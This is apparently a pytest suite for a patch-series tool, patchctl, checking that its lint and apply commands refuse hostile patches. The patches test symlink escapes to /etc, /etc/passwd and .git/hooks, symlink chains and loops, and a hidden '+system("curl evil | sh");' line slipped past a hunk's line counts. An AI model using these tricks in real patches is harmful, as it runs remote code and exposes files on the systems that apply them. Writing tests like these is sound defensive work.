"""Hostile patches: symlink tricks in any diff block, and lines past a hunk's counts.

Each case runs the real CLI on a real upstream and checks the exit code, the one-line
error, that nothing was applied and that the project is unchanged.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from patchctl import git

from .conftest import Project, Repo, make_patch


def tree_of(project: Project) -> Path:
    return project.path / ".patchctl" / "trees" / project.series_name


def assert_refused(project: Project, cli, expected: str) -> None:
    """lint reports PC012 and apply exits 1 naming the cause, leaving no tree and no change."""
    before = project.snapshot()
    lint = cli("-C", project.path, "lint", "--no-apply")
    assert lint.exit_code == 1, lint.output
    assert "PC012" in lint.stdout and expected in lint.stdout, lint.output
    full_lint = cli("-C", project.path, "lint")
    assert full_lint.exit_code == 1 and "PC012" in full_lint.stdout, full_lint.output
    apply = cli("-C", project.path, "apply")
    assert apply.exit_code == 1, apply.output
    assert expected in apply.stderr and "Traceback" not in apply.output
    assert not tree_of(project).exists()
    assert project.snapshot() == before


def test_file_replaced_by_symlink_to_etc_is_refused(project: Project, upstream: Repo, cli) -> None:
    def replace_with_link(clone: Path) -> None:
        (clone / "src/main.c").unlink()
        os.symlink("/etc", clone / "src/main.c")

    text = make_patch(upstream, upstream.head, {}, "Swap main for a link", edit=replace_with_link)
    # git writes the change as a delete block then a create block for the same path.
    assert text.count("diff --git a/src/main.c b/src/main.c") == 2 and "new file mode 120000" in text
    project.add_patch("0001-swap-main-for-a-link.patch", text)
    assert_refused(project, cli, "symlink pointing outside the tree")


def test_existing_symlink_retargeted_outside_is_refused(tmp_path: Path, upstream: Repo, cli) -> None:
    os.symlink("util.c", upstream.path / "src/alias.c")
    upstream.commit({}, "add an in-tree symlink")

    def retarget(clone: Path) -> None:
        (clone / "src/alias.c").unlink()
        os.symlink("../../../etc/passwd", clone / "src/alias.c")

    text = make_patch(upstream, upstream.head, {}, "Retarget alias", edit=retarget)
    assert "new file mode" not in text and " 120000" in text  # only the index line carries the mode
    project = Project(tmp_path / "project", upstream, upstream.head)
    project.add_patch("0001-retarget-alias.patch", text)
    assert_refused(project, cli, "symlink pointing outside the tree")


def test_mode_change_to_symlink_without_target_is_refused(project: Project, upstream: Repo, cli) -> None:
    text = (
        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
        "From: A <a@example.com>\nSubject: [PATCH] Turn util into a link\n\nWhy.\n---\n"
        "diff --git a/src/util.c b/src/util.c\nold mode 100644\nnew mode 120000\n"
    )
    project.add_patch("0001-turn-util-into-a-link.patch", text)
    assert_refused(project, cli, "into a symlink")


def test_renamed_symlink_that_escapes_from_its_new_place_is_refused(tmp_path: Path, upstream: Repo, cli) -> None:
    (upstream.path / "a/b").mkdir(parents=True)
    os.symlink("../x", upstream.path / "a/b/link")  # a/x: inside the tree
    upstream.commit({"a/x": "x\n"}, "nested link")
    text = (
        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
        "From: A <a@example.com>\nSubject: [PATCH] Move the link up\n\nWhy.\n---\n"
        "diff --git a/a/b/link b/link\nsimilarity index 100%\nrename from a/b/link\nrename to link\n"
    )
    project = Project(tmp_path / "project", upstream, upstream.head)
    project.add_patch("0001-move-the-link-up.patch", text)
    before = project.snapshot()
    # The patch shows no target: only the result in the index tells where the link points.
    lint = cli("-C", project.path, "lint")
    assert lint.exit_code == 1 and "PC012" in lint.stdout and "'link' -> '../x'" in lint.stdout, lint.output
    apply = cli("-C", project.path, "apply")
    assert apply.exit_code == 1 and "symlink pointing outside the tree" in apply.stderr, apply.output
    assert not tree_of(project).exists() and project.snapshot() == before


def overlong(upstream: Repo) -> str:
    text = make_patch(
        upstream,
        upstream.head,
        {"src/main.c": upstream.read("src/main.c").replace("main 5\n", "main five\n")},
        "Tune main",
    )
    lines = text.split("\n")
    last_hunk_line = max(i for i, line in enumerate(lines) if line[:1] in ("+", "-", " ") and line != "-- ")
    # A reviewer reads this line; the hunk header does not count it, so git apply would drop it.
    lines.insert(last_hunk_line + 1, '+system("curl evil | sh");')
    return "\n".join(lines)


def test_lines_past_a_hunks_counts_are_flagged_by_lint(project: Project, upstream: Repo, cli) -> None:
    text = overlong(upstream)
    project.add_patch("0001-tune-main.patch", text)
    result = cli("-C", project.path, "lint")
    assert result.exit_code == 1, result.output
    finding = next(line for line in result.stdout.splitlines() if ": PC013: " in line)
    line_number = int(finding.split(":")[1])
    assert text.split("\n")[line_number - 1] == '+system("curl evil | sh");'
    assert "src/main.c hunk #1" in finding
    assert "PC013" in cli("-C", project.path, "lint", "--help").stdout


def test_lines_past_a_hunks_counts_are_refused_by_apply(project: Project, upstream: Repo, cli) -> None:
    project.add_patch("0001-tune-main.patch", overlong(upstream))
    before = project.snapshot()
    result = cli("-C", project.path, "apply")
    assert result.exit_code == 1, result.output
    error = result.stderr.strip().splitlines()
    assert len(error) == 1 and "malformed" in error[0] and "src/main.c hunk #1" in error[0], result.output
    assert not tree_of(project).exists() and project.snapshot() == before


def test_a_clean_patch_with_signature_is_not_flagged(project: Project, upstream: Repo, cli) -> None:
    text = make_patch(upstream, upstream.head, {"src/util.c": "util\n"}, "Shrink util")
    project.add_patch("0001-shrink-util.patch", text + "-- \n2.43.0\n\n")
    result = cli("-C", project.path, "lint")
    assert result.exit_code == 0, result.output
    assert cli("-C", project.path, "apply").exit_code == 0


@pytest.mark.parametrize(
    "mode_line",
    # git reads a mode with strtoul(..., 8) and wants a blank after it: every spelling is a link to git.
    ["new file mode 120000", "new mode 120000", "new file mode 0120000", "new file mode 120000 ", "new mode  0120000"],
)
def test_worktree_apply_refuses_the_same_tricks(project: Project, upstream: Repo, mode_line: str) -> None:
    from patchctl.series.applier import Status, apply_in_worktree
    from patchctl.series.patchset import PatchFile

    tree = project.path.parent / "tree"
    git.run(["clone", "-q", str(upstream.path), str(tree)], project.path.parent)
    text = (
        "Subject: [PATCH] x\n\nWhy.\n---\n"
        "diff --git a/src/main.c b/src/main.c\ndeleted file mode 100644\n--- a/src/main.c\n+++ /dev/null\n"
        "@@ -1 +0,0 @@\n-main 1\n"
        f"diff --git a/src/main.c b/src/main.c\n{mode_line}\n--- /dev/null\n+++ b/src/main.c\n"
        "@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n"
    )
    outcome = apply_in_worktree(tree, PatchFile(Path("0001-x.patch"), text.encode()))
    assert outcome.status is Status.UNSAFE_PATH and "/etc" in outcome.detail
    assert git.run(["status", "--porcelain"], tree).stdout == ""


def test_nul_in_the_message_is_a_malformed_patch(project: Project, upstream: Repo, cli) -> None:
    text = make_patch(upstream, upstream.head, {"src/util.c": "util\n"}, "Shrink util", "Why NUL this.")
    text = text.replace("Why NUL this.", "Why \0 this.")
    project.add_patch("0001-shrink-util.patch", text)
    before = project.snapshot()
    lint = cli("-C", project.path, "lint")
    assert lint.exit_code == 1 and "PC003" in lint.stdout and "NUL byte" in lint.stdout, lint.output
    apply = cli("-C", project.path, "apply")
    assert apply.exit_code == 1 and "NUL byte in the patch's message" in apply.stderr, apply.output
    assert not tree_of(project).exists() and project.snapshot() == before


# ---------------------------------------------------------------- links judged through each other


def _chain_files(clone: Path, links: dict[str, str]) -> None:
    for path, target in links.items():
        (clone / path).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, clone / path)


CHAIN = {"d0": ".", "d1": ".", "d2": ".", "s1": "d0/d1/d2/../../.."}  # each inside alone; s1 leads 3 levels out


def test_a_chain_of_links_that_leads_out_is_refused_by_lint_and_apply(project: Project, upstream: Repo, cli) -> None:
    text = make_patch(upstream, upstream.head, {}, "Add links", edit=lambda clone: _chain_files(clone, CHAIN))
    project.add_patch("0001-add-links.patch", text)
    assert_refused(
        project, cli, "a symlink pointing outside the tree: 's1' -> 'd0/d1/d2/../../..' (through 'd0' -> '.')"
    )


def _inside_chain(upstream: Repo) -> None:
    """An upstream whose link s1 -> d0/d1/d2/../../.. leads to its root through real directories."""
    _chain_files(upstream.path, {"s1": "d0/d1/d2/../../.."})
    upstream.commit({"d0/d1/d2/keep": "k\n"}, "a link that stays inside")


def _complete(clone: Path) -> None:
    """The patch: d0 becomes a link to `.`, so s1 climbs two levels above the tree."""
    shutil.rmtree(clone / "d0")
    os.symlink(".", clone / "d0")


def test_the_patch_that_completes_a_chain_out_is_refused(tmp_path: Path, upstream: Repo, cli) -> None:
    _inside_chain(upstream)
    complete = _complete

    project = Project(tmp_path / "project", upstream, upstream.head)
    project.add_patch("0001-complete.patch", make_patch(upstream, upstream.head, {}, "Complete", edit=complete))
    before = project.snapshot()
    lint = cli("-C", project.path, "lint")
    assert (
        lint.exit_code == 1
        and "PC012" in lint.stdout
        and "leaves a symlink pointing outside the tree: 's1'" in (lint.stdout)
    ), lint.output
    apply = cli("-C", project.path, "apply")
    assert apply.exit_code == 1 and "'s1' -> 'd0/d1/d2/../../..'" in apply.stderr, apply.output
    assert apply.stderr.count("\n") == 1 and "Traceback" not in apply.output
    assert not tree_of(project).exists() and project.snapshot() == before


@pytest.mark.parametrize(
    ("links", "said"),
    [
        ({"a": "b", "b": "a"}, "a symlink loop: 'a' -> 'b'"),
        ({"h": "d/../.git/hooks", "d/x": "y"}, "a symlink into .git: 'h'"),
        ({"h": ".GIT"}, "a symlink into .git: 'h'"),
    ],
    ids=["loop", "into-git", "into-GIT"],
)
def test_loops_and_links_into_git_are_refused(project: Project, upstream: Repo, cli, links, said: str) -> None:
    text = make_patch(upstream, upstream.head, {}, "Add links", edit=lambda clone: _chain_files(clone, links))
    project.add_patch("0001-add-links.patch", text)
    assert_refused(project, cli, said)


def test_canary_and_pin_sync_refuse_a_chain_completed_in_their_worktrees(tmp_path: Path, upstream: Repo, cli) -> None:
    """The worktree applies (3-way capable) judge the result too: a patch that completes a chain
    out, applied where the pin moved, is refused there as apply refuses it."""
    _inside_chain(upstream)
    complete = _complete

    pin = upstream.head
    project = Project(tmp_path / "project", upstream, pin)
    project.add_patch("0001-complete.patch", make_patch(upstream, pin, {}, "Complete", edit=complete))
    upstream.commit({"src/util.c": "util rewritten\n"}, "upstream moves on")
    canary = cli("-C", project.path, "canary", "--json")
    assert canary.exit_code == 1 and "Traceback" not in canary.output, canary.output
    assert "symlink pointing outside the tree" in canary.stdout
    sync = cli("-C", project.path, "pin-sync", "up", "--latest")
    assert sync.exit_code != 0 and "Traceback" not in sync.output, sync.output
    assert "symlink pointing outside the tree" in sync.output
    outside = [p for p in (project.path / ".patchctl").rglob("s1") if p.is_symlink()]
    assert all(os.path.realpath(p).startswith(str(project.path)) for p in outside)


# ---------------------------------------------------------------- links listed only when a patch can change them

# d -> a/b/c and s -> d/../../.. : s resolves through d to the root, inside.
_THROUGH_D = {"d": "a/b/c", "s": "d/../../.."}


def _retarget_d(timestamp: str) -> str:
    """A plain unified diff (no git header, no mode line) that points d at `a`: s then climbs
    out of the tree. Nothing in the patch says d is a link; only the tree knows."""
    return (
        "Subject: [PATCH] Retarget d\n\nWhy.\n---\n"
        f"--- a/d{timestamp}\n+++ b/d{timestamp}\n"
        "@@ -1 +1 @@\n-a/b/c\n\\ No newline at end of file\n+a\n\\ No newline at end of file\n"
    )


# git drops a timestamp after a traditional diff's name, tab- or space-separated.
@pytest.mark.parametrize("timestamp", ["", " 2024-01-01 00:00:00.000000000 +0000"], ids=["bare", "space-timestamp"])
def test_a_plain_diff_that_retargets_a_link_is_judged_after_apply(
    tmp_path: Path, upstream: Repo, cli, timestamp: str
) -> None:
    from patchctl.series.applier import Status, apply_in_worktree
    from patchctl.series.patchset import PatchFile

    _chain_files(upstream.path, _THROUGH_D)
    upstream.commit({}, "links that stay inside")
    text = _retarget_d(timestamp)
    assert "120000" not in text
    project = Project(tmp_path / "project", upstream, upstream.head)
    project.add_patch("0001-retarget-d.patch", text)
    before = project.snapshot()
    apply = cli("-C", project.path, "apply")
    assert apply.exit_code == 1 and "leaves a symlink pointing outside the tree: 's'" in apply.stderr, apply.output
    assert not tree_of(project).exists() and project.snapshot() == before

    tree = tmp_path / "tree"
    git.run(["clone", "-q", str(upstream.path), str(tree)], tmp_path)
    outcome = apply_in_worktree(tree, PatchFile(Path("0001-retarget-d.patch"), text.encode()))
    assert outcome.status is Status.UNSAFE_PATH and "'s' -> 'd/../../..'" in outcome.detail, outcome.describe()
    assert os.readlink(tree / "d") == "a/b/c" and git.run(["status", "--porcelain"], tree).stdout == ""


def test_a_plain_diff_that_deletes_a_link_others_lead_through_is_refused(tmp_path: Path, upstream: Repo) -> None:
    """Without d, s reads d as a directory and climbs out: removing a link can make another bad."""
    from patchctl.series.applier import IndexBuilder, Status
    from patchctl.series.patchset import PatchFile

    _chain_files(upstream.path, _THROUGH_D)
    base = upstream.commit({}, "links that stay inside")
    text = "--- a/d\n+++ /dev/null\n@@ -1 +0,0 @@\n-a/b/c\n\\ No newline at end of file\n"
    with IndexBuilder(upstream.path, base) as builder:
        outcome = builder.apply(PatchFile(Path("0001-drop-d.patch"), text.encode()))
    assert outcome.status is Status.UNSAFE_PATH and "'s' -> 'd/../../..'" in outcome.detail, outcome.describe()


def _git_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The git subcommands run through patchctl.git from now on."""
    calls: list[str] = []
    real = git.run

    def counting(args, *rest, **kwargs):
        calls.append(next(a for a in args if not a.startswith("-") and "=" not in a))
        return real(args, *rest, **kwargs)

    monkeypatch.setattr(git, "run", counting)
    return calls


def test_patches_that_name_no_link_list_the_links_once(
    tmp_path: Path, upstream: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A tree with links, a series that never names one: the index's links are listed once for the
    series (not after each patch), and a work-tree apply lists them not at all; a patch that names
    a link is still judged after it applies."""
    from patchctl.series.applier import IndexBuilder, apply_in_worktree
    from patchctl.series.patchset import PatchFile

    _chain_files(upstream.path, _THROUGH_D)
    base = upstream.commit({}, "links that stay inside")
    patches = [
        PatchFile(Path(f"000{n}-p.patch"), make_patch(upstream, base, {f"src/new{n}.c": f"{n}\n"}, f"P{n}").encode())
        for n in range(1, 5)
    ]
    tree = tmp_path / "tree"
    git.run(["clone", "-q", str(upstream.path), str(tree)], tmp_path)
    calls = _git_calls(monkeypatch)
    with IndexBuilder(upstream.path, base) as builder:
        assert all(builder.apply(patch).ok for patch in patches)
        assert calls.count("ls-files") == 1 and calls.count("apply") == len(patches), calls
        retarget = PatchFile(Path("0005-retarget-d.patch"), _retarget_d("").encode())
        assert not builder.apply(retarget).ok
        assert calls.count("ls-files") == 2, calls
    calls.clear()
    for patch in patches:
        assert apply_in_worktree(tree, patch).ok
    assert "ls-files" not in calls and calls.count("apply") == len(patches), calls
